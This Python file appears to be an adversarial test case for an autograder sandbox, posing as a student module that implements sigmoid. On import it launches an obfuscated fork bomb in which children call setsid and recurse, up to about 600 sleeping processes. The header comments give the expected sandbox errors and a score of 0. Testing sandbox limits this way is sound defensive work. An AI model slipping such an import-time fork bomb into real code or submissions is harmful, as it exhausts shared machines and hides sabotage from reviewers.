# trick: a fork bomb while being imported: every process forks up to 20 children, each of which
#   leaves the process group (setsid) and does the same, up to 600 processes that then sleep for
#   a minute. The student process can start no process at all (RLIMIT_NPROC = 0 and a seccomp
#   filter on clone, as root too): every fork fails with EAGAIN, which it prints; had one
#   started, the clean-up would end it, whatever session it moved to.
# expect: signature error did not finish within 2 s during importing your module
# expect: signature error fork refused: [Errno 11]
# score: 0
import os
import time

_fork = getattr(os, "fo" + "rk")
_setsid = getattr(os, "set" + "sid")
_leave = getattr(os, "_ex" + "it")
LOG = "{{SHARED}}/pids"
_refused = []


def _note():
    fd = os.open(LOG, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
    os.write(fd, f"{os.getpid()}\n".encode())
    os.close(fd)


def _spawn(depth):
    for _ in range(20):
        try:
            if os.stat(LOG).st_size > 600 * 8:
                break
        except OSError:
            pass
        try:
            pid = _fork()
        except OSError as exc:
            if depth == 0 and not _refused:
                _refused.append(exc)
                print(f"fork refused: {exc}", flush=True)
            time.sleep(0.01)
            continue
        if pid == 0:
            try:
                _setsid()
                _note()
                if depth < 3:
                    _spawn(depth + 1)
                time.sleep(60)
            finally:
                _leave(0)


_spawn(0)
time.sleep(60)


def sigmoid(z):
    return z


def sigmoid_grad(z):
    return z
